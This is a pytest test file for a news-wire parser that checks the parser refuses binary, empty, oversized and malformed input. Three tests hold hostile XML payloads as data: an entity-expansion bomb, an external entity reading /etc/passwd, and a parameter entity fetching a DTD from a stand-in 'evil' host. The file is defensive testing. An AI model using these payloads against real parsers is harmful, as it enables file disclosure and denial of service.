"""Whatever cannot be read is refused with one sentence, never half-read."""

import os

import pytest

from wire.errors import WireRefused
from wire.formats import limits, read_wire, read_wire_file

STORY = (
    b"Council approves the new budget\n\n"
    b"The city council approved the budget on Tuesday after a long debate about schools.\n"
)


def refusal(data, **options):
    with pytest.raises(WireRefused) as caught:
        read_wire(data, **options)
    message = str(caught.value)
    assert message.endswith("."), message  # one sentence
    assert "\n" not in message
    return message


def test_entity_expansion_is_refused_before_expanding():
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE nitf [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;">]><nitf><head><title>&c;</title></head></nitf>'
    )
    assert "entities" in refusal(bomb)


def test_external_entity_is_refused():
    hostile = (
        b'<?xml version="1.0"?><!DOCTYPE nitf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        b"<nitf><body><body.content><p>&secret;</p></body.content></body></nitf>"
    )
    assert "external entity" in refusal(hostile)


def test_external_parameter_entity_is_refused():
    hostile = (
        b'<?xml version="1.0"?><!DOCTYPE nitf [<!ENTITY % remote SYSTEM '
        b'"http://example.invalid/evil.dtd"> %remote;]><nitf/>'
    )
    assert "entit" in refusal(hostile)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "PNG"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "PDF"),
        (b"Headline\n\nSome\x00text with NUL bytes in it, as binary files have.", "binary"),
        (bytes(range(1, 32)) * 40, "binary"),
    ],
)
def test_binary_files_are_refused(data, words):
    assert words in refusal(data)


@pytest.mark.parametrize("data", [b"", b"   \n\t\r\n  "])
def test_empty_files_are_refused(data):
    assert refusal(data) == "The file is empty."


def test_bytes_over_the_cap_are_refused():
    assert "MB" in refusal(STORY, max_bytes=len(STORY) - 1)


def test_a_file_over_the_cap_is_refused_before_it_is_read(tmp_path, monkeypatch):
    path = tmp_path / "huge.txt"
    with open(path, "wb") as handle:
        handle.truncate(limits.MAX_BYTES + 1)  # sparse: nothing is written to disk
    assert os.stat(path).st_size == 50 * 1024 * 1024 + 1

    def never(*args, **kwargs):
        raise AssertionError("the file was opened")

    monkeypatch.setattr(limits, "open", never, raising=False)
    with pytest.raises(WireRefused, match="over the 50 MB"):
        read_wire_file(path)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"<nitf><body><p>unclosed</body></nitf>", "not well-formed"),
        (b"<html><body><p>A web page.</p></body></html>", "root element is <html>"),
        (b'{"name": "a config file", "debug": true}', "not a ninjs news item"),
        (b'{"headline": "broken', "JSON is not well-formed"),
        (b"id,name,price\n1,apple,3\n2,pear,4\n", "no wire format"),
        (b"Just one line of text", "no wire format"),
        (
            b"https://example.com/news/2024/05/story\nCity council approves the new budget"
            b" after a long debate\n2024-05-07\n",
            "no wire format",
        ),
    ],
)
def test_text_in_no_known_format_is_refused(data, words):
    assert words in refusal(data)


def test_a_story_is_not_refused():
    assert read_wire(STORY).headline == "Council approves the new budget"
